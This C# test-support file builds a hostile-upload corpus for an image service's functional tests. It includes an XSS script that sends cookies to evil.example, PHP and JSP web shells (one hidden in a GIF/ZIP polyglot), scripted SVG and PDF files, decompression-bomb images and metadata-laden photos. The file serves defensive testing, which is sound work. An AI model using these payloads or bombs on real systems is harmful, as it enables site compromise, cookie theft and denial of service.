using CleanProfiles.Tests.Shared;
using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;
using NetVips;

namespace CleanProfiles.WebApi.FunctionalTests.Support;

/// <summary>
/// The hostile-input corpus as bytes, built in code: files that lie about their type, are broken, carry a payload,
/// declare absurd dimensions (decompression bombs) or carry private metadata. One method per file kind.
/// </summary>
public static class HostileFiles
{
    /// <summary>What the ZIP appended to <see cref="GifWithZipAppended"/> calls its one entry.</summary>
    public const string ZipEntryName = "gifar-payload.jsp";

    /// <summary>The secret the camera JPEG's XMP packet carries.</summary>
    public const string XmpSecret = "SECRET-XMP";

    /// <summary>The secret the camera JPEG's COM segment carries.</summary>
    public const string JpegCommentSecret = "SECRET-COMMENT";

    /// <summary>The prefix of every secret the PNG text chunks carry.</summary>
    public const string PngTextSecret = "SECRET-PNG-TEXT";

    // PNG's CRC-32 (ISO 3309), table-driven: the 30,000 x 30,000 bomb's IDAT is over 100 KB.
    private static readonly uint[] CrcTable = Enumerable.Range(0, 256).Select(n =>
    {
        var c = (uint)n;
        for (var k = 0; k < 8; k++)
        {
            c = (c & 1) != 0 ? 0xEDB88320u ^ (c >> 1) : c >> 1;
        }

        return c;
    }).ToArray();

    private static readonly Lazy<byte[]> WidePngBomb = new(BuildPngBomb30000);

    // --- Type spoofing: content that is not an image, whatever its name and Content-Type say ---

    /// <summary>Stored-XSS attempt: an HTML page that would run script if served as text/html.</summary>
    public static byte[] Html() =>
        "<!DOCTYPE html><html><body><script>fetch('//evil.example/?c='+document.cookie)</script></body></html>"u8.ToArray();

    /// <summary>Web shell: PHP source that a misconfigured server would execute.</summary>
    public static byte[] Php() => "<?php system($_GET['cmd']); ?>\n"u8.ToArray();

    /// <summary>Plain text posing as a picture.</summary>
    public static byte[] PlainText() => "This is not a picture, just some text a client claims is one.\n"u8.ToArray();

    /// <summary>SVG is XML that browsers execute script in: an image type that is really active content.</summary>
    public static byte[] SvgWithScript() =>
        """<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.domain)</script><rect width="10" height="10"/></svg>"""u8.ToArray();

    /// <summary>A PDF: a document format with its own scripting and a large parser attack surface.</summary>
    public static byte[] Pdf() => Encoding.ASCII.GetBytes(
        "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
        + "2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n");

    /// <summary>A real 2 x 2 24-bit BMP: an image, but not a type the service accepts or parses.</summary>
    public static byte[] Bmp()
    {
        const int rowBytes = 8; // 2 pixels x 3 bytes, padded to 4
        var pixels = rowBytes * 2;
        var bytes = new byte[54 + pixels];
        "BM"u8.CopyTo(bytes);
        BinaryPrimitives.WriteInt32LittleEndian(bytes.AsSpan(2), bytes.Length);
        BinaryPrimitives.WriteInt32LittleEndian(bytes.AsSpan(10), 54);
        BinaryPrimitives.WriteInt32LittleEndian(bytes.AsSpan(14), 40);
        BinaryPrimitives.WriteInt32LittleEndian(bytes.AsSpan(18), 2);
        BinaryPrimitives.WriteInt32LittleEndian(bytes.AsSpan(22), 2);
        BinaryPrimitives.WriteInt16LittleEndian(bytes.AsSpan(26), 1);
        BinaryPrimitives.WriteInt16LittleEndian(bytes.AsSpan(28), 24);
        BinaryPrimitives.WriteInt32LittleEndian(bytes.AsSpan(34), pixels);
        bytes.AsSpan(54).Fill(0xC0);
        return bytes;
    }

    /// <summary>A real little-endian TIFF written by libvips: a format with a huge parser surface the service must not reach.</summary>
    public static byte[] Tiff()
    {
        using var image = Solid(8, 8, 10, 120, 200);
        var bytes = image.TiffsaveBuffer(keep: Enums.ForeignKeep.None);
        return bytes.AsSpan().StartsWith("II*\0"u8) ? bytes : throw new InvalidOperationException("libvips wrote no little-endian TIFF");
    }

    /// <summary>The start of a HEIC file (ISO BMFF <c>ftyp</c> box with brand <c>heic</c>): HEVC parsers are a known attack surface.</summary>
    public static byte[] Heic() =>
    [
        0x00, 0x00, 0x00, 0x18, .. "ftypheic"u8, 0x00, 0x00, 0x00, 0x00, .. "mif1heic"u8,
        0x00, 0x00, 0x00, 0x10, .. "meta"u8, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
    ];

    /// <summary>A Windows icon (ICONDIR + one entry pointing at an embedded PNG): an image container the service does not accept.</summary>
    public static byte[] Ico()
    {
        var png = TestImages.Png(16, 16);
        var header = new byte[22];
        BinaryPrimitives.WriteUInt16LittleEndian(header.AsSpan(2), 1); // type: icon
        BinaryPrimitives.WriteUInt16LittleEndian(header.AsSpan(4), 1); // one image
        header[6] = 16;
        header[7] = 16;
        BinaryPrimitives.WriteUInt16LittleEndian(header.AsSpan(10), 1);
        BinaryPrimitives.WriteUInt16LittleEndian(header.AsSpan(12), 32);
        BinaryPrimitives.WriteInt32LittleEndian(header.AsSpan(14), png.Length);
        BinaryPrimitives.WriteInt32LittleEndian(header.AsSpan(18), header.Length);
        return [.. header, .. png];
    }

    /// <summary>A real ZIP archive (the payload of a "GIFAR"/polyglot, or a JAR a plugin would run).</summary>
    public static byte[] Zip()
    {
        using var output = new MemoryStream();
        using (var archive = new ZipArchive(output, ZipArchiveMode.Create, leaveOpen: true))
        {
            var entry = archive.CreateEntry(ZipEntryName, CompressionLevel.NoCompression);
            using var writer = new StreamWriter(entry.Open(), Encoding.ASCII);
            writer.Write("<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>");
        }

        return output.ToArray();
    }

    /// <summary>An executable: the 64-bit ELF header of a Linux program.</summary>
    public static byte[] Elf()
    {
        var bytes = new byte[64];
        ReadOnlySpan<byte> ident = [0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0]; // 64-bit, little-endian, version 1
        ident.CopyTo(bytes);
        BinaryPrimitives.WriteUInt16LittleEndian(bytes.AsSpan(16), 2); // ET_EXEC
        BinaryPrimitives.WriteUInt16LittleEndian(bytes.AsSpan(18), 0x3E); // x86-64
        BinaryPrimitives.WriteUInt32LittleEndian(bytes.AsSpan(20), 1);
        return bytes;
    }

    /// <summary>An executable: a DOS/PE header (<c>MZ</c> ... <c>PE\0\0</c>) of a Windows program.</summary>
    public static byte[] WindowsExe()
    {
        var bytes = new byte[128];
        "MZ"u8.CopyTo(bytes);
        BinaryPrimitives.WriteInt32LittleEndian(bytes.AsSpan(0x3C), 0x40);
        "PE\0\0"u8.CopyTo(bytes.AsSpan(0x40));
        "This program cannot be run in DOS mode."u8.CopyTo(bytes.AsSpan(0x4E));
        return bytes;
    }

    /// <summary>A real WAV file: RIFF like WebP, but <c>WAVE</c> where WebP has <c>WEBP</c>.</summary>
    public static byte[] Wav()
    {
        const int samples = 64;
        var bytes = new byte[44 + samples];
        "RIFF"u8.CopyTo(bytes);
        BinaryPrimitives.WriteInt32LittleEndian(bytes.AsSpan(4), bytes.Length - 8);
        "WAVEfmt "u8.CopyTo(bytes.AsSpan(8));
        BinaryPrimitives.WriteInt32LittleEndian(bytes.AsSpan(16), 16);
        BinaryPrimitives.WriteInt16LittleEndian(bytes.AsSpan(20), 1); // PCM
        BinaryPrimitives.WriteInt16LittleEndian(bytes.AsSpan(22), 1); // mono
        BinaryPrimitives.WriteInt32LittleEndian(bytes.AsSpan(24), 8000);
        BinaryPrimitives.WriteInt32LittleEndian(bytes.AsSpan(28), 8000);
        BinaryPrimitives.WriteInt16LittleEndian(bytes.AsSpan(32), 1);
        BinaryPrimitives.WriteInt16LittleEndian(bytes.AsSpan(34), 8);
        "data"u8.CopyTo(bytes.AsSpan(36));
        BinaryPrimitives.WriteInt32LittleEndian(bytes.AsSpan(40), samples);
        bytes.AsSpan(44).Fill(0x80);
        return bytes;
    }

    // --- Broken images: the right magic numbers, then nothing a decoder can finish ---

    /// <summary>A real 800 x 600 noise JPEG cut in half: the header is fine, the scan data stops mid-way.</summary>
    public static byte[] TruncatedJpeg()
    {
        var jpeg = NoiseJpeg(800, 600);
        return jpeg[..(jpeg.Length / 2)];
    }

    /// <summary>The JPEG SOI marker and a marker prefix, followed by random bytes.</summary>
    public static byte[] JpegSoiThenGarbage() => [0xFF, 0xD8, 0xFF, .. Garbage(4096, seed: 1)];

    /// <summary>The 8-byte PNG signature followed by random bytes instead of chunks.</summary>
    public static byte[] PngSignatureThenGarbage() => [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, .. Garbage(4096, seed: 2)];

    /// <summary>A GIF89a header and logical screen descriptor, and no image at all.</summary>
    public static byte[] GifHeaderOnly() => [.. "GIF89a"u8, 0x01, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00];

    /// <summary>One byte, the first of a JPEG's magic number: too little to be recognised as anything.</summary>
    public static byte[] OneByte() => [0xFF];

    // --- Real images with a twist ---

    /// <summary>A GIF with a ZIP appended ("GIFAR"): valid as both; the stored picture must not carry the archive along.</summary>
    public static byte[] GifWithZipAppended()
    {
        using var image = Solid(48, 32, 20, 200, 20);
        return [.. image.GifsaveBuffer(keep: Enums.ForeignKeep.None), .. Zip()];
    }

    /// <summary>A real noise JPEG (incompressible, so it is large for its size).</summary>
    public static byte[] NoiseJpeg(int width, int height)
    {
        using var noise = Image.Gaussnoise(width, height, sigma: 60, mean: 128);
        using var rotated = noise.Rot180();
        using var flipped = noise.FlipHor();
        using var rgb = noise.Bandjoin(rotated, flipped);
        using var uchar = rgb.Cast(Enums.BandFormat.Uchar).Copy(interpretation: Enums.Interpretation.Srgb);
        return uchar.JpegsaveBuffer(q: 90, keep: Enums.ForeignKeep.None);
    }

    // --- Decompression bombs: a small file that declares a huge canvas ---

    /// <summary>A valid 1-bit greyscale PNG of 30,000 x 30,000 (900 megapixels) whose all-zero rows compress to well under 1 MB.</summary>
    public static byte[] PngBomb30000() => WidePngBomb.Value;

    /// <summary>A PNG declaring a 1 x 500,000,000 strip (500 megapixels); the IDAT holds only a few rows.</summary>
    public static byte[] PngStrip500Million() => PngStrip(500_000_000);

    /// <summary>A PNG declaring a 1 x <paramref name="height"/> strip: few pixels in all, but far too many on one side.</summary>
    public static byte[] PngStrip(int height) => Png(Ihdr(1, height, bitDepth: 8, colourType: 0), [("IDAT", Compress(new byte[2 * 16]))]);

    /// <summary>A GIF whose logical screen is 65,535 x 65,535 with one 1 x 1 frame: a decoder sizing its RGBA canvas by the screen allocates 16 GiB.</summary>
    public static byte[] GifScreen65535()
    {
        var gif = TestImages.Gif.ToArray();
        BinaryPrimitives.WriteUInt16LittleEndian(gif.AsSpan(6), 65_535);
        BinaryPrimitives.WriteUInt16LittleEndian(gif.AsSpan(8), 65_535);
        return gif;
    }

    /// <summary>A real 64 x 48 JPEG whose SOF0 is patched to declare 65,000 x 65,000 (4.2 gigapixels).</summary>
    public static byte[] JpegDeclaring65000()
    {
        var jpeg = TestImages.Jpeg(64, 48);
        var sof = FindJpegSegment(jpeg, 0xC0);
        BinaryPrimitives.WriteUInt16BigEndian(jpeg.AsSpan(sof + 5), 65_000); // height
        BinaryPrimitives.WriteUInt16BigEndian(jpeg.AsSpan(sof + 7), 65_000); // width
        return jpeg;
    }

    /// <summary>A real lossless WebP whose VP8L header is patched to declare 16,383 x 16,383 (268 megapixels, WebP's maximum).</summary>
    public static byte[] WebPDeclaring16383()
    {
        using var image = Solid(16, 16, 200, 30, 30);
        var webp = image.WebpsaveBuffer(lossless: true, keep: Enums.ForeignKeep.None);
        if (!webp.AsSpan(12, 4).SequenceEqual("VP8L"u8) || webp[20] != 0x2F)
        {
            throw new InvalidOperationException("libvips wrote no simple lossless (VP8L) WebP");
        }

        // 14 bits width - 1, 14 bits height - 1, then the alpha bit and the version: keep those.
        var bits = BinaryPrimitives.ReadUInt32LittleEndian(webp.AsSpan(21));
        bits = (bits & 0xF000_0000u) | 16_382u | (16_382u << 14);
        BinaryPrimitives.WriteUInt32LittleEndian(webp.AsSpan(21), bits);
        return webp;
    }

    // --- Pictures that carry private metadata ---

    /// <summary>
    /// A camera-like 400 x 200 JPEG (left half red, right half blue) with an EXIF APP1 (Orientation 6 and GPS position),
    /// an XMP APP1 and a COM segment, all inserted by hand right after SOI.
    /// </summary>
    public static byte[] CameraJpegWithExifGpsXmpAndComment()
    {
        using var red = Solid(200, 200, 255, 0, 0);
        using var blue = Solid(200, 200, 0, 0, 255);
        using var joined = red.Join(blue, Enums.Direction.Horizontal);
        var jpeg = joined.JpegsaveBuffer(q: 95, keep: Enums.ForeignKeep.None);

        var xmp = Encoding.ASCII.GetBytes(
            "http://ns.adobe.com/xap/1.0/\0<?xpacket begin=\"\" id=\"W5M0MpCehiHzreSzNTczkc9d\"?>"
            + "<x:xmpmeta xmlns:x=\"adobe:ns:meta/\"><rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\">"
            + "<rdf:Description rdf:about=\"\" xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><dc:description>" + XmpSecret
            + " home address</dc:description></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end=\"w\"?>");
        using var segments = new MemoryStream();
        WriteJpegSegment(segments, 0xE1, [.. "Exif\0\0"u8, .. ExifWithOrientation6AndGps()]);
        WriteJpegSegment(segments, 0xE1, xmp);
        WriteJpegSegment(segments, 0xFE, Encoding.ASCII.GetBytes(JpegCommentSecret + ": shot at home"));
        return [.. jpeg.AsSpan(0, 2), .. segments.ToArray(), .. jpeg.AsSpan(2)];
    }

    /// <summary>A 40 x 30 PNG with a tEXt (Comment), a zTXt and an iTXt chunk, each carrying a secret.</summary>
    public static byte[] PngWithTextChunks()
    {
        var png = TestImages.Png(40, 30, red: 30, green: 160, blue: 60);
        const int afterIhdr = 8 + 8 + 13 + 4;
        using var chunks = new MemoryStream();
        PngChunks.Write(chunks, "tEXt", [.. "Comment\0"u8, .. Encoding.ASCII.GetBytes(PngTextSecret)]);
        PngChunks.Write(chunks, "zTXt", [.. "Description\0"u8, 0, .. Compress(Encoding.ASCII.GetBytes(PngTextSecret + "-ZTXT"))]);
        PngChunks.Write(chunks, "iTXt", [.. "Author\0"u8, 0, 0, .. "en\0"u8, .. "Author\0"u8, .. Encoding.UTF8.GetBytes(PngTextSecret + "-ITXT")]);
        return [.. png.AsSpan(0, afterIhdr), .. chunks.ToArray(), .. png.AsSpan(afterIhdr)];
    }

    /// <summary>An animated GIF of three 60 x 40 frames: red, then green, then blue.</summary>
    public static byte[] AnimatedGifRedGreenBlue(int frameWidth = 60, int frameHeight = 40)
    {
        using var red = Solid(frameWidth, frameHeight, 255, 0, 0);
        using var green = Solid(frameWidth, frameHeight, 0, 255, 0);
        using var blue = Solid(frameWidth, frameHeight, 0, 0, 255);
        using var strip = Image.Arrayjoin([red, green, blue], across: 1);
        using var animated = strip.Mutate(m =>
        {
            m.Set(GValue.GIntType, "page-height", frameHeight);
            m.Set(GValue.ArrayIntType, "delay", new[] { 100, 100, 100 });
            m.Set(GValue.GIntType, "loop", 0);
        });
        return animated.GifsaveBuffer(keep: Enums.ForeignKeep.None);
    }

    // --- Building blocks ---

    /// <summary>Big-endian TIFF: IFD0 with Orientation = 6 and a GPSInfo pointer; the GPS IFD puts the picture at 48°51'24"N 2°21'8"E.</summary>
    private static byte[] ExifWithOrientation6AndGps()
    {
        const int ifd0 = 8;
        const int gpsIfd = ifd0 + 2 + (2 * 12) + 4;
        const int latitude = gpsIfd + 2 + (4 * 12) + 4;
        const int longitude = latitude + 24;
        var tiff = new byte[longitude + 24];
        "MM\0\x2A"u8.CopyTo(tiff);
        BinaryPrimitives.WriteUInt32BigEndian(tiff.AsSpan(4), ifd0);

        BinaryPrimitives.WriteUInt16BigEndian(tiff.AsSpan(ifd0), 2);
        IfdEntry(tiff, ifd0 + 2, tag: 0x0112, type: 3, count: 1, value: 6u << 16); // Orientation, SHORT, left-justified
        IfdEntry(tiff, ifd0 + 14, tag: 0x8825, type: 4, count: 1, value: gpsIfd); // GPSInfo, LONG

        BinaryPrimitives.WriteUInt16BigEndian(tiff.AsSpan(gpsIfd), 4);
        IfdEntry(tiff, gpsIfd + 2, tag: 0x0001, type: 2, count: 2, value: (uint)'N' << 24); // GPSLatitudeRef "N\0"
        IfdEntry(tiff, gpsIfd + 14, tag: 0x0002, type: 5, count: 3, value: latitude); // GPSLatitude
        IfdEntry(tiff, gpsIfd + 26, tag: 0x0003, type: 2, count: 2, value: (uint)'E' << 24); // GPSLongitudeRef "E\0"
        IfdEntry(tiff, gpsIfd + 38, tag: 0x0004, type: 5, count: 3, value: longitude); // GPSLongitude

        Rationals(tiff, latitude, 48, 51, 24);
        Rationals(tiff, longitude, 2, 21, 8);
        return tiff;
    }

    private static void IfdEntry(byte[] tiff, int at, ushort tag, ushort type, uint count, uint value)
    {
        BinaryPrimitives.WriteUInt16BigEndian(tiff.AsSpan(at), tag);
        BinaryPrimitives.WriteUInt16BigEndian(tiff.AsSpan(at + 2), type);
        BinaryPrimitives.WriteUInt32BigEndian(tiff.AsSpan(at + 4), count);
        BinaryPrimitives.WriteUInt32BigEndian(tiff.AsSpan(at + 8), value);
    }

    private static void Rationals(byte[] tiff, int at, params uint[] numerators)
    {
        for (var i = 0; i < numerators.Length; i++)
        {
            BinaryPrimitives.WriteUInt32BigEndian(tiff.AsSpan(at + (8 * i)), numerators[i]);
            BinaryPrimitives.WriteUInt32BigEndian(tiff.AsSpan(at + (8 * i) + 4), 1);
        }
    }

    private static void WriteJpegSegment(Stream output, byte marker, byte[] payload)
    {
        output.Write([0xFF, marker]);
        Span<byte> length = stackalloc byte[2];
        BinaryPrimitives.WriteUInt16BigEndian(length, checked((ushort)(payload.Length + 2)));
        output.Write(length);
        output.Write(payload);
    }

    /// <summary>Offset of the first segment with this marker, walking the segments from SOI up to SOS.</summary>
    private static int FindJpegSegment(byte[] jpeg, byte marker)
    {
        var at = 2;
        while (at + 4 <= jpeg.Length && jpeg[at] == 0xFF && jpeg[at + 1] != 0xDA)
        {
            if (jpeg[at + 1] == marker)
            {
                return at;
            }

            at += 2 + BinaryPrimitives.ReadUInt16BigEndian(jpeg.AsSpan(at + 2));
        }

        throw new InvalidOperationException($"No JPEG segment FF {marker:X2} before the scan.");
    }

    private static byte[] BuildPngBomb30000()
    {
        const int side = 30_000;
        var row = new byte[1 + ((side + 7) / 8)]; // filter byte "none" + 3,750 bytes of 1-bit black pixels
        using var compressed = new MemoryStream();
        using (var zlib = new ZLibStream(compressed, CompressionLevel.SmallestSize, leaveOpen: true))
        {
            for (var y = 0; y < side; y++)
            {
                zlib.Write(row);
            }
        }

        return Png(Ihdr(side, side, bitDepth: 1, colourType: 0), [("IDAT", compressed.ToArray())]);
    }

    private static byte[] Ihdr(int width, int height, byte bitDepth, byte colourType)
    {
        var header = new byte[13];
        BinaryPrimitives.WriteInt32BigEndian(header, width);
        BinaryPrimitives.WriteInt32BigEndian(header.AsSpan(4), height);
        header[8] = bitDepth;
        header[9] = colourType;
        return header;
    }

    private static byte[] Png(byte[] ihdr, IEnumerable<(string Type, byte[] Data)> chunks)
    {
        using var output = new MemoryStream();
        output.Write([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A]);
        PngChunks.Write(output, "IHDR", ihdr);
        foreach (var (type, data) in chunks)
        {
            PngChunks.Write(output, type, data);
        }

        PngChunks.Write(output, "IEND", []);
        return output.ToArray();
    }

    private static byte[] Compress(byte[] data)
    {
        using var compressed = new MemoryStream();
        using (var zlib = new ZLibStream(compressed, CompressionLevel.SmallestSize, leaveOpen: true))
        {
            zlib.Write(data);
        }

        return compressed.ToArray();
    }

    private static byte[] Garbage(int length, int seed)
    {
        var bytes = new byte[length];
        new Random(seed).NextBytes(bytes);
        return bytes;
    }

    private static Image Solid(int width, int height, byte red, byte green, byte blue)
    {
        using var black = Image.Black(width, height);
        return black.NewFromImage(red, green, blue).Copy(interpretation: Enums.Interpretation.Srgb);
    }
}
